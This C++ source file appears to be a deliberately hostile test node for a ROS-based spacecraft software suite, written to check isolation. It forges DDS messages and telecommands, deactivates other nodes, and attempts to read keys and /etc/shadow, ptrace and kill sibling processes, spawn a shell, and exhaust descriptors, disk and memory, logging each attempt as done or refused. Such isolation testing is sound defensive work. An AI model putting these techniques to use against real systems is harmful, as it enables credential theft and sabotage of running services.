// SPDX-FileCopyrightText: 2026 SRFS contributors
// SPDX-License-Identifier: Apache-2.0
// A payload that is correctly signed and flown, and attacks what is around it (test_hostile_node.py). It is
// examples/payload_idle as far as the suite sees; when it gets Active it forges what other nodes say, orders
// them over DDS, and says their goodbyes, until there is state/NODE/forged_enough. What it was answered is a
// line of state/NODE/orders. Then it tries to read keys, to trace, kill and slow down other
// nodes of its VAR, to change their files, to start programs, and to take the machine's disk, descriptors and
// memory. Each attempt is a line of state/NODE/attacks: "done" or "refused", and what it was. Nothing here
// harms a machine on which an attempt succeeds, except for the nodes of this VAR.
#include <algorithm>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <functional>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <lifecycle_msgs/srv/change_state.hpp>
#include <rcl_interfaces/srv/set_parameters.hpp>

#include "suite/command_keys.hpp"
#include "suite/node.hpp"
#include "suite/run_node.hpp"
#include "suite/topics.hpp"

namespace {

using namespace srfs;
namespace fs = std::filesystem;

constexpr std::size_t mebibyte = 1U << 20;

bool opens(const fs::path& path, int flags) {
  const int fd = open(path.c_str(), flags | O_CLOEXEC, 0600);
  if (fd >= 0) close(fd);
  return fd >= 0;
}
bool reads(const fs::path& path) {
  char octet = 0;
  const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  const bool has_read = fd >= 0 && pread(fd, &octet, 1, 0) == 1;
  if (fd >= 0) close(fd);
  return has_read;
}
bool lists(const fs::path& folder) {
  return opens(folder, O_RDONLY | O_DIRECTORY);
}
bool runs(const std::function<void()>& in_child) {
  const pid_t child = fork();
  if (child == 0) {
    in_child();
    _exit(0);
  }
  if (child > 0) waitpid(child, nullptr, 0);
  return child > 0;
}

class Attack {
 public:
  Attack(const suite::VarPaths& var, std::string self)
      : var_(var), self_(std::move(self)), report_(var.state(self_) / "attacks") {}

  void run() {
    std::signal(SIGXFSZ, SIG_IGN);
    read_secrets();
    change_files();
    for (const pid_t victim : victims()) harm(victim);
    leave_the_process();
    take_descriptors();
    take_disk();
    take_memory();
    say("end", "of all attempts");
    report_.close();
    while (true) pause();  // with all that it could take
  }

 private:
  void say(const std::string& outcome, const std::string& what) {
    report_ << outcome << ' ' << what << std::endl;
  }
  void attempt(const std::string& what, const std::function<bool()>& succeeds) {
    say(succeeds() ? "done" : "refused", what);
  }

  /// Processes of this VAR, itself and the simulated spacecraft aside.
  [[nodiscard]] std::vector<pid_t> victims() const {
    std::vector<pid_t> found;
    for (const auto& entry : fs::directory_iterator("/proc")) {
      const pid_t pid = std::atoi(entry.path().filename().c_str());
      std::string line;
      if (pid > 0 && pid != getpid()) std::getline(std::ifstream(entry.path() / "cmdline"), line);
      if (line.find(var_.root) == std::string::npos) continue;
      if (line.find("_node") != std::string::npos || line.find("srfs-starter") != std::string::npos)
        found.push_back(pid);
    }
    return found;
  }

  void read_secrets() {
    for (const char* folder : {"keys", "golden", "ground", "files", "state/ttc", "state/maintenance"})
      attempt(std::string("list ") + folder, [&] { return lists(var_.root / folder); });
    for (const char* file :
         {"seal/seal_key", "command_key", "of_ttc/command_key", "of_payload_eps/command_key"})
      attempt(std::string("read order key ") + file, [&] { return reads(suite::order_keys(var_) / file); });
    for (const char* file : {"keys/package.pub", "ground/package_test.seed", "state/ttc/journal_a"})
      attempt(std::string("read ") + file, [&] { return reads(var_.root / file); });
    attempt("read /etc/shadow", [] { return reads("/etc/shadow"); });
    attempt("list srfs_rescue's settings", [] { return lists("/var/lib/srfs-rescue"); });
  }

  void change_files() {
    for (const char* file : {"run/stopping", "state/ring/membership", "state/boot/step_a", "state/ttc/new",
                             "versions/ttc/ttc.1", "files/new", "run/ttc.lock", "new"})
      attempt(std::string("write ") + file, [&] { return opens(var_.root / file, O_RDWR | O_CREAT); });
    attempt("write another's heartbeat", [&] { return opens(var_.memory() / "ttc.heartbeat", O_RDWR); });
    attempt("remove a lock", [&] { return unlink((var_.root / "run/ttc.lock").c_str()) == 0; });
    attempt("lock another's restarts",
            [&] { return flock(open(var_.restart_lock("ttc").c_str(), O_RDONLY), LOCK_EX | LOCK_NB) == 0; });
    attempt("write into /tmp", [] { return opens("/tmp/srfs_hostile", O_RDWR | O_CREAT); });
    attempt("write into /dev/shm", [] { return opens("/dev/shm/srfs_hostile", O_RDWR | O_CREAT); });
  }

  void harm(pid_t victim) {
    const std::string who = " of " + std::to_string(victim);
    const fs::path proc = "/proc/" + std::to_string(victim);
    attempt("memory by ptrace" + who, [=] { return ptrace(PTRACE_SEIZE, victim, nullptr, nullptr) == 0; });
    attempt("memory by process_vm_readv" + who, [=] {
      char octet = 0;
      iovec here{&octet, 1};
      iovec there{&octet, 1};
      return process_vm_readv(victim, &here, 1, &there, 1, 0) == 1 || errno == EFAULT;  // nothing is there
    });
    for (const char* file : {"mem", "environ", "maps"})
      attempt(file + who, [&] { return reads(proc / file); });
    attempt("descriptor" + who, [=] {
      const long process = syscall(SYS_pidfd_open, victim, 0);
      return process >= 0 && syscall(SYS_pidfd_getfd, process, 0, 0) >= 0;
    });
    attempt("limits" + who, [=] {
      const rlimit none{0, 0};
      return prlimit(victim, RLIMIT_NOFILE, &none, nullptr) == 0;
    });
    attempt("niceness" + who, [=] { return setpriority(PRIO_PROCESS, static_cast<id_t>(victim), 19) == 0; });
    attempt("scheduling" + who, [=] {
      const sched_param none{};
      return sched_setscheduler(victim, SCHED_IDLE, &none) == 0;
    });
    attempt("weight" + who, [&] { return opens(proc / "autogroup", O_WRONLY); });
    attempt("OOM score" + who, [&] { return opens(proc / "oom_score_adj", O_WRONLY); });
    attempt("signal by fcntl" + who, [=] {
      int ends[2] = {-1, -1};
      return pipe2(ends, O_CLOEXEC) == 0 && fcntl(ends[0], F_SETOWN, victim) == 0;
    });
    attempt("stop" + who, [=] { return kill(victim, SIGSTOP) == 0; });
    attempt("end by pidfd" + who, [=] {
      const long process = syscall(SYS_pidfd_open, victim, 0);
      return process >= 0 && syscall(SYS_pidfd_send_signal, process, SIGKILL, nullptr, 0) == 0;
    });
    attempt("end by tgkill" + who, [=] { return syscall(SYS_tgkill, victim, victim, SIGKILL) == 0; });
    attempt("end by kill" + who, [=] { return kill(victim, SIGKILL) == 0; });
  }

  void leave_the_process() {
    attempt("start a process", [] { return runs([] {}); });
    attempt("start a shell", [] { return runs([] { execl("/bin/sh", "sh", "-c", ":", nullptr); }); });
    attempt("namespaces", [] { return unshare(CLONE_NEWUSER) == 0 || unshare(CLONE_NEWNS) == 0; });
    attempt("mount", [this] { return mount("none", var_.state(self_).c_str(), "tmpfs", 0, nullptr) == 0; });
    attempt("raw socket", [] { return socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP) >= 0; });
    attempt("the clock", [] {
      timespec now{};
      clock_gettime(CLOCK_REALTIME, &now);
      return clock_settime(CLOCK_REALTIME, &now) == 0;
    });
    attempt("a real-time priority", [] {
      const sched_param first{1};
      return sched_setscheduler(0, SCHED_FIFO, &first) == 0;
    });
    for (const auto resource : {RLIMIT_DATA, RLIMIT_FSIZE, RLIMIT_RTPRIO, RLIMIT_STACK})
      attempt("limit " + std::to_string(resource), [=] {
        rlimit wanted{};
        getrlimit(resource, &wanted);
        wanted.rlim_cur = wanted.rlim_cur + 1;
        wanted.rlim_max = std::max(wanted.rlim_max, wanted.rlim_cur);
        return setrlimit(resource, &wanted) == 0;
      });
  }

  void take_descriptors() {
    std::vector<int> taken;
    for (int fd = 0; taken.size() < 100'000 && (fd = open("/dev/null", O_RDONLY | O_CLOEXEC)) >= 0;)
      taken.push_back(fd);
    say("took", std::to_string(taken.size()) + " descriptors");
    for (const int fd : taken) close(fd);  // or it could not report
  }

  /// By length alone: nothing is written.
  void take_disk() {
    const fs::path big = var_.state(self_) / "big";
    const int fd = open(big.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    std::size_t octets = 0;
    while (octets < 1024 * mebibyte && ftruncate(fd, static_cast<off_t>(octets + mebibyte)) == 0)
      octets += mebibyte;
    close(fd);
    say("took", std::to_string(octets / mebibyte) + " MiB of a file");
  }

  void take_memory() {
    std::vector<void*> taken;
    taken.reserve(1024);
    const auto map = [&](int flags) {
      void* memory = mmap(nullptr, mebibyte, PROT_READ | PROT_WRITE, flags | MAP_ANONYMOUS, -1, 0);
      if (memory == MAP_FAILED) return false;
      std::fill_n(static_cast<volatile char*>(memory), mebibyte, 1);
      taken.push_back(memory);
      return true;
    };
    attempt("shared memory", [&] { return map(MAP_SHARED); });
    attempt("memory that grows down", [&] { return map(MAP_PRIVATE | MAP_GROWSDOWN); });
    attempt("memory in a file", [] { return memfd_create("hostile", MFD_CLOEXEC) >= 0; });
    while (taken.size() < taken.capacity() && map(MAP_PRIVATE)) {
    }
    constexpr std::size_t for_its_report = 4;
    const std::size_t all = taken.size();
    for (std::size_t i = all - std::min(all, for_its_report); i < all; ++i) munmap(taken[i], mebibyte);
    say("took", std::to_string(all) + " MiB of memory");
  }

  const suite::VarPaths var_;
  const std::string self_;
  std::ofstream report_;
};

/// What it says over DDS in the name of others, sealed by what it has.
class Forger {
 public:
  Forger(suite::Node& node, std::function<void()> done) : node_(node), done_(std::move(done)) {
    timer_ = node.create_timer(
        milliseconds(50), [this] { forge(); }, "forger");
    using lifecycle_msgs::srv::ChangeState;
    using rcl_interfaces::srv::SetParameters;
    for (const char* victim : {"ttc", "timing", "payload_eps"}) {
      transitions_.push_back(node.create_client<ChangeState>("/" + std::string(victim) + "/change_state"));
      ChangeState::Request deactivate;
      deactivate.transition.id = 4;
      transitions_.back()->call(deactivate, seconds(5), 1, [this, victim](const auto& answer) {
        answered("deactivate " + std::string(victim),
                 answer ? std::optional<bool>(answer->success) : std::nullopt);
      });
    }
    parameters_ = node.create_client<SetParameters>("/timing/set_parameters");
    SetParameters::Request slower;
    slower.parameters.resize(1);
    slower.parameters[0].name = "tick_period_ms";
    slower.parameters[0].value.type = 2;
    slower.parameters[0].value.integer_value = 1000;
    parameters_->call(slower, seconds(5), 1, [this](const auto& answer) {
      const bool is_slow = answer && !answer->results.empty() && answer->results[0].successful;
      answered("slow timing down", answer ? std::optional<bool>(is_slow) : std::nullopt);
    });
  }

 private:
  /// @param done  nullopt: there was no answer, so nothing is known of it
  void answered(const std::string& what, std::optional<bool> done) {
    const char* outcome = !done ? "unanswered " : *done ? "done " : "refused ";
    std::ofstream(node_.var().state(node_.name()) / "orders", std::ios::app) << outcome << what << std::endl;
    ++answers_;
  }
  void forge() {
    const auto time = static_cast<std::uint64_t>(node_.now().ns());
    srfs_msgs::msg::TimeTick tick;
    tick.cycle = 1'000'000'000 + round_;
    tick.monotonic_ns = time;
    tick.period_us = 100'000;
    ticks_->publish(tick);
    srfs_msgs::msg::TaskFlags flags;
    flags.holder = node_.name();
    flags.switcher_incarnation = 1000;
    flags.grant_counter = 100'000'000 + round_;
    flags.tick_received_ns = time;
    flags_->publish(flags);
    srfs_msgs::msg::SystemMode mode;
    mode.name = "safe";
    mode.change = 1'000'000 + round_;
    mode.monotonic_ns = time;
    mode_->publish(mode);
    srfs_msgs::msg::Event event;
    event.source = "timing";
    event.event_id = 1;
    event.severity = srfs_msgs::msg::Event::HIGH;
    events_->publish(event);
    srfs_msgs::msg::BusStatus status;
    status.payload = "payload_eps";
    status.status = srfs_msgs::msg::BusStatus::FAILED;
    statuses_->publish(status);
    order("maintenance", 48, 1, "payload_adcs");  // ring.hold
    order("maintenance", 48, 12, "x.package");    // packages.install
    if (round_ % 20 == 0) say_goodbyes();
    if (++round_ >= rounds && answers_ == 4 &&
        fs::exists(node_.var().state(node_.name()) / "forged_enough")) {
      timer_.reset();
      done_();
    }
  }
  void order(const char* target, std::uint16_t apid, std::uint16_t function, const std::string& text) {
    srfs_msgs::msg::Telecommand m;
    m.id = (1ULL << 62U) + round_;
    m.target = target;
    m.apid = apid;
    m.function_id = function;
    m.repeat_class = 1;
    m.expiry_ns = static_cast<std::uint64_t>((node_.now() + seconds(60)).ns());
    m.arguments.push_back(static_cast<std::uint8_t>(text.size()));
    m.arguments.insert(m.arguments.end(), text.begin(), text.end());
    m.proof.fill(0x55);
    telecommands_->publish(m);
  }
  void say_goodbyes() {
    for (const auto& member : node_.participant().known_participants().members())
      (void)node_.participant().announce_departure(member.prefix);
  }

  static constexpr std::uint32_t rounds = 200;
  suite::Node& node_;
  std::function<void()> done_;
  std::uint32_t round_ = 0;
  int answers_ = 0;
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::TimeTick>> ticks_ =
      node_.create_publisher(suite::topics::time_tick);
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::TaskFlags>> flags_ =
      node_.create_publisher(suite::topics::task_flags);
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::SystemMode>> mode_ =
      node_.create_publisher(suite::topics::mode);
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::Event>> events_ =
      node_.create_publisher(suite::topics::event);
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::BusStatus>> statuses_ =
      node_.create_publisher(suite::topics::bus_status);
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::Telecommand>> telecommands_ =
      node_.create_publisher(suite::topics::telecommand);
  std::vector<std::shared_ptr<ros::Client<lifecycle_msgs::srv::ChangeState>>> transitions_;
  std::shared_ptr<ros::Client<rcl_interfaces::srv::SetParameters>> parameters_;
  ros::Timer timer_;
};

class HostileNode : public suite::Node {
 public:
  using Node::Node;

 protected:
  ros::CallbackReturn on_activate() override {
    statuses_ = create_publisher(suite::topics::bus_status);
    flags_ = create_subscription(suite::topics::task_flags,
                                 [this](const srfs_msgs::msg::TaskFlags& flags) { give_back(flags); });
    // Not in the self-test, in which no state of its own lasts.
    if (fs::exists(var().state(name()) / "attack")) {
      forger_ = std::make_unique<Forger>(*this, [this] {
        std::thread([attack = std::make_shared<Attack>(var(), name())] { attack->run(); }).detach();
      });
    }
    return ros::CallbackReturn::success;
  }
  ros::CallbackReturn on_deactivate() override {
    forger_.reset();
    flags_.reset();
    statuses_.reset();
    return ros::CallbackReturn::success;
  }

 private:
  void give_back(const srfs_msgs::msg::TaskFlags& flags) {
    if (flags.holder != name() && !flags.holder.empty()) return;
    srfs_msgs::msg::BusStatus status;
    status.status = srfs_msgs::msg::BusStatus::RELEASED;
    status.switcher_incarnation = flags.switcher_incarnation;
    status.grant_counter = flags.grant_counter;
    status.payload = name();
    status.payload_incarnation = incarnation();
    status.monotonic_ns = static_cast<std::uint64_t>(now().ns());
    statuses_->publish(status);
  }

  std::unique_ptr<Forger> forger_;
  std::shared_ptr<ros::Publisher<srfs_msgs::msg::BusStatus>> statuses_;
  std::shared_ptr<ros::Subscription<srfs_msgs::msg::TaskFlags>> flags_;
};

}  // namespace

int main(int argc, char** argv) {
  return suite::run_node<HostileNode>(argc, argv);
}
